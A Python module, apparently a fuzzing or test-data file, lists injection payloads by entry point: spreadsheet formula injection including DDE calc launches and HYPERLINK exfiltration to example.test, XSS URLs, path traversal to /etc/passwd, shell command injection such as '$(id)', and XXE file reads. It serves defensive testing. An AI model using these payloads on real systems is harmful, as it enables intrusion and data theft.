"""Texts by which strangers try to get from data to action. One list for each way in."""

_COMMANDS = [
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://example.test/?x="&A1,"klik")', 'WEBSERVICE("http://example.test/")',
    'IMPORTXML("http://example.test/","//a")', "SUM(A1:A9)", 'DDE("cmd";"/C calc";"x")', "MSEXCEL|'\\..\\..\\x.exe'!''",
    'INFO("osversion")', "'file:///etc/passwd'#$x.A1", "NOW()", "RAND()", "A1",
]
FORMULAS = (
    [sign + text for sign in ("=", "+", "-", "@") for text in _COMMANDS]
    + [blank + "=1+1" for blank in (" ", "  ", "\t", "\u00a0", "\u2003", "\n")]
    + ["\r=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "=1+1;=2+2", '="a"&"b"', "=-1+1", "=+1+1", "==1+1", '=1+1"', "'=1+1",
       "-2+3+cmd|' /C calc'!A0", "%0A=1+1", "+48 22 555 55 55", "-5", "- pozycja listy", "@ops_kalisz"]
)

_SCRIPTS = ["alert(1)", "window.coopnetHit=1", "fetch('http://example.test/')"]
URLS = (
    ["javascript:" + script for script in _SCRIPTS]
    + ["JaVaScRiPt:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
       "\x01javascript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)", "javascript%3Aalert(1)",
       "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
       "data:image/svg+xml,<svg onload=alert(1)>", "file:///etc/passwd", "ftp://example.test/x", "blob:x", "about:blank",
       "view-source:http://example.test", "//example.test/x", "/etc/passwd", "\\\\example.test\\x", "http:alert(1)",
       'http://example.test/" onload="alert(1)', "http://example.test/' onclick='alert(1)", "http://example.test/><script>alert(1)</script>",
       "http://example.test/</a><img src=x onerror=alert(1)>", "http://example.test/\" onmouseover=alert(1) x=\"",
       "https://javascript:alert(1)@example.test/", "http://example.test/\u202egpj.exe", "http://[::1]:x/", "http://",
       "https://example.test/ż?ą=ę&b=<c>#ł", "http://example.test/%00", "http://example.test/\\\"", "mailto:a@example.test?body=x",
       "tel:+48", "ws://example.test", "HTTP://EXAMPLE.TEST/`", "http://example.test/]]>", "http://example.test/\\N\\E"]
)

_UP = ["../", "..\\", "..//", "....//", "./../", "x/../../", "%2e%2e/", "..%2f", "..;/", "\u2025/", "．．/", "..\u2215"]
_AIMS = ["secret.csv", "secret/secret.csv", "../secret.csv", "../../../../../../../etc/passwd"]
PATHS = (
    [up + aim for up in _UP for aim in _AIMS] + [up * 3 + "secret.csv" for up in _UP]
    + ["/etc/passwd", "//etc/passwd", "/proc/self/environ", "/dev/stdin", "/dev/zero", "~/secret.csv", "$HOME/secret.csv",
       "file:///etc/passwd", "http://example.test/ties.csv", "https://example.test/ties.csv", "\\\\example.test\\ties.csv", "C:\\secret.csv",
       "C:secret.csv", "ties.csv\x00.png", "ties.csv\x00/../../secret.csv", "-", "--help", "-o", "|cat /etc/passwd", ";id", "`id`", "$(id)",
       ".", "..", "", " ", "/", "CON", "NUL", "aux.csv", "a" * 300 + ".csv", "a/" * 600 + "x.csv", "link.csv", "link/secret.csv",
       "\u202ecsv.seit", "ties.csv/", "./ties.csv/..", "*", "?", "[a-z]", "{a,b}", "\n", "a\nb.csv"]
)

XML = [
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;', '<!DOCTYPE x SYSTEM "http://example.test/x.dtd">',
    '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>&b;', "&lol9;", "&#0;", "&#xFFFE;", "&#x1b;", "]]>", "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='http://example.test/x.xsl'?>", "<?php x ?>", "<!--#include file='/etc/passwd'-->", "-->", "<!-- --",
    "</data></node><node id='evil'/>", '" onload="alert(1)', "' xlink:href='javascript:alert(1)", "<svg onload=alert(1)>",
    "<foreignObject><iframe src='javascript:alert(1)'/></foreignObject>", "<xi:include href='file:///etc/passwd' parse='text'/>",
    "<image href='http://example.test/x.png'/>", "\ufffe\uffff", "<a xmlns='http://example.test/'>",
]

FORMULAS, URLS, PATHS, XML = (list(dict.fromkeys(texts)) for texts in (FORMULAS, URLS, PATHS, XML))
